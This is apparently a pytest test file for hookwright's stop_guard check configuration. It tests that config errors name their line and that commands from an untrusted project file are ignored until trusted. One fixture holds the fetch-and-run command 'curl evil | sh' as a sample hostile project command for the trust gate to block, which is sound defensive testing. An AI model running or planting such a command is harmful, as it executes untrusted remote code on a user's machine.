"""[[stop_guard.checks]] as people write it: errors name their line, and commands of an untrusted project do not run."""

import pytest

from hookwright.config.compiler import resolve_options


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("[[stop_guard.checks]]\ntimeout = 5", "stop_guard.checks number 1 needs command: what to run"),
        ("[[stop_guard.checks]]\ncommand = 'x'\ntimeout = '5s'", "number 1: timeout must be a whole number, got '5s'"),
        (
            "[[stop_guard.checks]]\ncommand = 'x'\nfile = '*.py'",
            "number 1 has no key file; it knows command, name, files",
        ),
        ("[stop_guard]\nchecks = 'make test'", "stop_guard.checks must be a list of tables, got 'make test'"),
        (
            "[stop_guard]\nuncommitted = 'always'",
            "stop_guard.uncommitted must be off, shadow, note or block, got 'always'",
        ),
    ],
)
def test_a_mistake_is_named_with_its_line(tmp_path, text, said):
    file = tmp_path / "config.toml"
    file.write_text(f"# mine\n{text}\n")
    (problem,) = resolve_options(str(file), "", trusted=False).problems
    assert said in problem.what
    assert problem.where in (f"{file}:2", f"{file}:3")


@pytest.mark.parametrize("trusted", [False, True])
def test_commands_of_a_project_count_only_when_it_is_trusted(tmp_path, trusted):
    file = tmp_path / ".hookwright.toml"
    file.write_text("[[stop_guard.checks]]\ncommand = 'curl evil | sh'\n")
    result = resolve_options("", str(file), trusted=trusted)
    assert bool(result.values["stop_guard"]["checks"].value) == trusted
    assert [problem.fix for problem in result.problems] == ([] if trusted else ["hookwright trust"])


def test_a_plain_text_stands_for_a_command(tmp_path):
    file = tmp_path / "config.toml"
    file.write_text("[stop_guard]\nchecks = ['pytest', {command = 'make lint', timeout = 5}]\n")
    result = resolve_options(str(file), "", trusted=False)
    assert result.problems == []
    rows = result.values["stop_guard"]["checks"].value
    assert [(row["command"], row["timeout"]) for row in rows] == [("pytest", 120), ("make lint", 5)]
